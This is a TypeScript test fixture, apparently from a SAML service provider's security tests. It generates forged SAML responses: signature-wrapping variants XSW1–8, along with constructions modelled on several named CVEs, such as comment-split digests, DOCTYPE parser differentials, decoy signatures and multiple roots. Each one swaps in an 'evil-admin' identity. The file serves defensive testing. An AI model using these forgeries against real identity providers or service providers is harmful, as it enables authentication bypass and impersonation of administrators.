// Malicious variants of freshly signed messages (saml-security.md §2). Each takes genuine signed XML
// and returns what an attacker would POST; XSW1–8 follow SAMLRaider's XSWHelpers.java layouts.
import { XMLSerializer } from '@xmldom/xmldom';
import { ATTR, NS } from '../../../src/saml/constants.js';
import { parse, signById, type SignSpec } from './idp-signer.js';

export const EVIL = { nameId: 'evil-admin', eppn: 'admin@univ.edu', pairwise: 'ADMINADMINADMIN@univ.edu' } as const;

const serialize = (n: Node): string => new XMLSerializer().serializeToString(n);

export function mutate(xml: string, fn: (doc: Document, root: Element) => void): string {
  const doc = parse(xml);
  fn(doc, doc.documentElement);
  return serialize(doc);
}

export function kids(el: Node, localName?: string): Element[] {
  return Array.from(el.childNodes).filter(
    (n): n is Element => n.nodeType === 1 && (localName === undefined || (n as Element).localName === localName),
  );
}

export function only(el: Node, localName: string): Element {
  const [first] = kids(el, localName);
  if (!first) throw new Error(`no ${localName}`);
  return first;
}

export function removeSignature(el: Element): void {
  for (const s of kids(el, 'Signature')) el.removeChild(s);
}

/** Changes the identity inside an assertion to the attacker's choice. */
export function evilize(assertion: Element): void {
  for (const n of Array.from(assertion.getElementsByTagNameNS(NS.saml, 'NameID'))) n.textContent = EVIL.nameId;
  for (const a of Array.from(assertion.getElementsByTagNameNS(NS.saml, 'Attribute'))) {
    const name = a.getAttribute('Name');
    const value = name === ATTR.eduPersonPrincipalName ? EVIL.eppn : name === ATTR.pairwiseId ? EVIL.pairwise : undefined;
    if (value) for (const v of kids(a, 'AttributeValue')) v.textContent = value;
  }
}

const clone = (el: Element): Element => el.cloneNode(true) as Element;

// ---- XSW1–XSW8 (Somorovsky et al. 2012, SAMLRaider XSWHelpers) ----

/** R signed: unsigned clone R' appended inside R's Signature; outer R made evil with a new ID. */
export const xsw1 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const copy = clone(r);
    removeSignature(copy);
    only(r, 'Signature').appendChild(copy);
    r.setAttribute('ID', '_evil_response_ID');
    evilize(only(r, 'Assertion'));
  });

/** R signed: as XSW1, the clone inserted before the Signature. */
export const xsw2 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const copy = clone(r);
    removeSignature(copy);
    r.insertBefore(copy, only(r, 'Signature'));
    r.setAttribute('ID', '_evil_response_ID');
    evilize(only(r, 'Assertion'));
  });

/** A signed: evil unsigned clone (new ID) as first child of the Response. */
export const xsw3 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const evil = clone(only(r, 'Assertion'));
    removeSignature(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    evilize(evil);
    r.insertBefore(evil, r.firstChild);
  });

/** A signed: evil A' appended to the Response, the original A moved inside A'. */
export const xsw4 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const a = only(r, 'Assertion');
    const evil = clone(a);
    removeSignature(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    evilize(evil);
    r.appendChild(evil);
    evil.appendChild(a);
  });

/** A signed: A made evil in place (keeps its Signature, new ID); a clean unsigned copy appended. */
export const xsw5 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const a = only(r, 'Assertion');
    const clean = clone(a);
    removeSignature(clean);
    evilize(a);
    a.setAttribute('ID', '_evil_assertion_ID');
    r.appendChild(clean);
  });

/** A signed: as XSW5, the clean copy appended inside the evil assertion's Signature. */
export const xsw6 = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const a = only(r, 'Assertion');
    const clean = clone(a);
    removeSignature(clean);
    evilize(a);
    a.setAttribute('ID', '_evil_assertion_ID');
    only(a, 'Signature').appendChild(clean);
  });

/** A signed: samlp:Extensions before A holding an evil clone with the SAME ID. */
export const xsw7 = (xml: string): string =>
  mutate(xml, (d, r) => {
    const a = only(r, 'Assertion');
    const evil = clone(a);
    removeSignature(evil);
    evilize(evil);
    const ext = d.createElementNS(NS.samlp, 'samlp:Extensions');
    ext.appendChild(evil);
    r.insertBefore(ext, a);
  });

/** A signed: A made evil (same ID, keeps Signature); ds:Object in its Signature holds a clean copy. */
export const xsw8 = (xml: string): string =>
  mutate(xml, (d, r) => {
    const a = only(r, 'Assertion');
    const clean = clone(a);
    removeSignature(clean);
    const obj = d.createElementNS(NS.ds, 'ds:Object');
    obj.appendChild(clean);
    only(a, 'Signature').appendChild(obj);
    evilize(a);
  });

/** 2026 XSW-Ext: the signed A hidden in samlp:Extensions, a forged copy (same ID and signature) on top. */
export const xswExtensions = (xml: string): string =>
  mutate(xml, (d, r) => {
    const a = only(r, 'Assertion');
    const forged = clone(a);
    evilize(forged);
    const ext = d.createElementNS(NS.samlp, 'samlp:Extensions');
    r.insertBefore(ext, a);
    ext.appendChild(a);
    r.appendChild(forged);
  });

/** CVE-2022-41912 shape: a second, unsigned evil Assertion (new ID) after the signed one. */
export const appendEvilAssertion = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const evil = clone(only(r, 'Assertion'));
    removeSignature(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    evilize(evil);
    r.appendChild(evil);
  });

/** Decoy: a second Signature (same SignatureValue) carrying ds:Object/Assertion (forged). */
export const decoySignature = (xml: string): string =>
  mutate(xml, (d, r) => {
    const decoy = clone(only(r, 'Signature'));
    const forged = clone(only(r, 'Assertion'));
    evilize(forged);
    const obj = d.createElementNS(NS.ds, 'ds:Object');
    obj.appendChild(forged);
    decoy.appendChild(obj);
    r.appendChild(decoy);
  });

/** The same decoy nested inside samlp:Status (not a second direct child of the root). */
export const nestedDecoySignature = (xml: string): string =>
  mutate(xml, (_d, r) => {
    const decoy = clone(only(r, 'Signature'));
    only(r, 'Status').appendChild(decoy);
  });

/** CVE-2025-29774: a wrapper element holding a forged SignedInfo before the genuine one. */
export const wrappedSignedInfo = (xml: string, forgedDigest: string): string =>
  mutate(xml, (d, r) => {
    const sig = only(r, 'Signature');
    const forged = clone(only(sig, 'SignedInfo'));
    only(only(forged, 'Reference'), 'DigestValue').textContent = forgedDigest;
    const wrapper = d.createElementNS('urn:example:wrap', 'w:WRAPPER');
    wrapper.appendChild(forged);
    sig.insertBefore(wrapper, sig.firstChild);
    evilize(only(r, 'Assertion'));
  });

/** CVE-2025-29775: `<DigestValue><!--forged-->genuine</DigestValue>` with evil content. */
export const digestValueComment = (xml: string, forgedDigest: string): string =>
  mutate(xml, (d, r) => {
    const dv = only(only(only(only(r, 'Signature'), 'SignedInfo'), 'Reference'), 'DigestValue');
    dv.insertBefore(d.createComment(forgedDigest), dv.firstChild);
    evilize(only(r, 'Assertion'));
  });

/** CVE-2024-45409: a DigestValue of the forged content planted in StatusDetail, content made evil. */
export const plantedDigestValue = (xml: string, forgedDigest: string): string =>
  mutate(xml, (d, r) => {
    const detail = d.createElementNS(NS.samlp, 'samlp:StatusDetail');
    const dv = d.createElementNS(NS.ds, 'ds:DigestValue');
    dv.textContent = forgedDigest;
    detail.appendChild(dv);
    only(r, 'Status').appendChild(detail);
    evilize(only(r, 'Assertion'));
  });

/** The digest an attacker would need for the evil version of element `id` (any key gives the same digest). */
export function digestOfEvil(xml: string, id: string, key: SignSpec['key']): string {
  const evil = mutate(xml, (_d, r) => {
    removeSignature(r);
    evilize(only(r, 'Assertion'));
  });
  const signed = parse(signById(evil, id, { key }));
  return signed.getElementsByTagNameNS(NS.ds, 'DigestValue')[0]?.textContent ?? '';
}

/** Re-signs the evil version of a message with another key (KeyInfo carries that key's cert unless null). */
export function resignEvil(xml: string, id: string, s: SignSpec): string {
  const evil = mutate(xml, (_d, r) => {
    removeSignature(r);
    evilize(only(r, 'Assertion'));
  });
  return signById(evil, id, s);
}

/** CVE-2025-25291 shape: DOCTYPE that comments out the genuine document for one parser but not another. */
export const doctypeDifferential = (signed: string, forged: string): string =>
  `<!DOCTYPE response SYSTEM 'x"><!--'>${forged.replace(/^<\?xml[^>]*>/, '')}<![CDATA[-->${signed}<!--]]>-->`;

/** CVE-2022-39299 shape: the genuine signed root followed by a forged second root. */
export const multipleRoots = (signed: string, forged: string): string => `${signed}${forged}`;

export const withDoctype = (xml: string, dtd: string): string => `${dtd}${xml}`;

/** Replaces the Reference URI of the (first) signature. */
export const setReferenceUri = (xml: string, uri: string): string =>
  mutate(xml, (_d, r) => {
    only(only(only(r, 'Signature'), 'SignedInfo'), 'Reference').setAttribute('URI', uri);
  });
